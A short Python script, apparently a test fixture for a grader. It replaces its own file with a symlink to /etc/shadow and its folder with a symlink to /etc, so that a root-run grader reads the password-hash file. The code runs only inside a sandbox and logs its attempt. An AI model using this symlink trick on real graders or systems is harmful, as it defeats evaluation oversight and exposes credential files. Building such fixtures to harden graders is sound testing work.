"""Puts a link to a secret in the place of its own folder and file, for a grader that reads them as root."""

import contextlib
import os
import socket
import sys
from pathlib import Path

SANDBOXED = os.getpid() < 100 or socket.gethostname() == "sandbox"

print("TRIED to become a link", file=sys.stderr, flush=True)
program = Path(__file__).resolve()
if SANDBOXED and program.parent.name == "lab5":
    with contextlib.suppress(OSError):
        program.unlink()
        program.symlink_to("/etc/shadow")
        program.parent.rename(program.parent.with_name("was_lab5"))
        program.parent.symlink_to("/etc")
